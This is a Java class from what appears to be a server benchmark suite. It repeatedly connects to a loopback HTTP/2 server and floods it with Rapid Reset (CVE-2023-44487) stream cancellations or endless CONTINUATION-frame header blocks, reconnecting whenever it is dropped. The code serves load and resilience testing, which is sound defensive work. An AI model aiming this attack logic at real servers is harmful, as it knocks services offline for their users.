package io.canarygateway.benchmarks;

import static io.canarygateway.benchmarks.Http2Frames.END_HEADERS;

import java.io.IOException;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.nio.ByteBuffer;
import java.nio.channels.SocketChannel;
import java.util.Locale;
import org.jspecify.annotations.Nullable;

/**
 * A connection that sends as much of one attack as the server takes. It is opened again when the
 * server closes it. Confined to one thread.
 */
final class Http2Attacker {

  /** What is sent. */
  enum Kind {
    /** Nothing, not even a connection. */
    NONE,
    /** Requests that are reset at once: CVE-2023-44487. */
    RAPID_RESET,
    /** A head without end: CONTINUATION frames of 16,000 bytes. */
    CONTINUATION,
    /** A head without end: CONTINUATION frames of five bytes. */
    SMALL_CONTINUATION;

    static Kind of(String name) {
      return valueOf(name.toUpperCase(Locale.ROOT).replace('-', '_'));
    }
  }

  private static final int BUFFER_BYTES = 64 * 1024;
  private static final int STREAMS_A_BUFFER = 100;
  private static final int LAST_STREAM = Integer.MAX_VALUE - 2 * STREAMS_A_BUFFER;
  private static final long RECONNECT_NANOS = 5_000_000;

  private final Kind kind;
  private final InetSocketAddress address;
  private final ByteBuffer out = ByteBuffer.allocateDirect(BUFFER_BYTES);
  private final ByteBuffer in = ByteBuffer.allocateDirect(BUFFER_BYTES);
  private @Nullable SocketChannel channel;
  private int stream;
  private long nextConnect;
  private long connections;
  private long bytes;

  Http2Attacker(Kind kind, int port) {
    this.kind = kind;
    this.address = new InetSocketAddress(InetAddress.getLoopbackAddress(), port);
  }

  /** Sends what the server takes now, and drops what it says. Returns whether anything moved. */
  boolean turn() {
    if (kind == Kind.NONE) {
      return false;
    }
    try {
      SocketChannel open = channel == null ? connect() : channel;
      if (open == null) {
        return false;
      }
      int read = open.read(in.clear());
      if (read < 0) {
        throw new IOException("closed");
      }
      if (!out.hasRemaining()) {
        fill();
      }
      int written = open.write(out);
      bytes += written;
      return read + written > 0;
    } catch (IOException e) {
      close();
      return true;
    }
  }

  private @Nullable SocketChannel connect() throws IOException {
    long now = System.nanoTime();
    if (connections > 0 && now - nextConnect < 0) {
      return null;
    }
    nextConnect = now + RECONNECT_NANOS;
    connections++;
    SocketChannel connected = SocketChannel.open(address);
    connected.configureBlocking(false);
    channel = connected;
    stream = 1;
    out.clear();
    Http2Frames.preface(out);
    if (kind != Kind.RAPID_RESET) {
      Http2Frames.get(out, stream, 0);
    }
    out.flip();
    return connected;
  }

  private void fill() throws IOException {
    out.clear();
    switch (kind) {
      case RAPID_RESET -> {
        if (stream > LAST_STREAM) {
          throw new IOException("no streams are left");
        }
        for (int i = 0; i < STREAMS_A_BUFFER; i++) {
          Http2Frames.get(out, stream, END_HEADERS);
          Http2Frames.cancel(out, stream);
          stream += 2;
        }
      }
      case CONTINUATION -> Http2Frames.continuations(out, 1, 3_200);
      case SMALL_CONTINUATION -> Http2Frames.continuations(out, 1, 1);
      case NONE -> throw new IllegalStateException("nothing is sent");
    }
    out.flip();
  }

  /** The connections that were opened. */
  long connections() {
    return connections;
  }

  /** The bytes that the server's kernel took. */
  long bytes() {
    return bytes;
  }

  void close() {
    try {
      if (channel != null) {
        channel.close();
      }
    } catch (IOException e) {
      // It is closed all the same.
    }
    channel = null;
  }
}
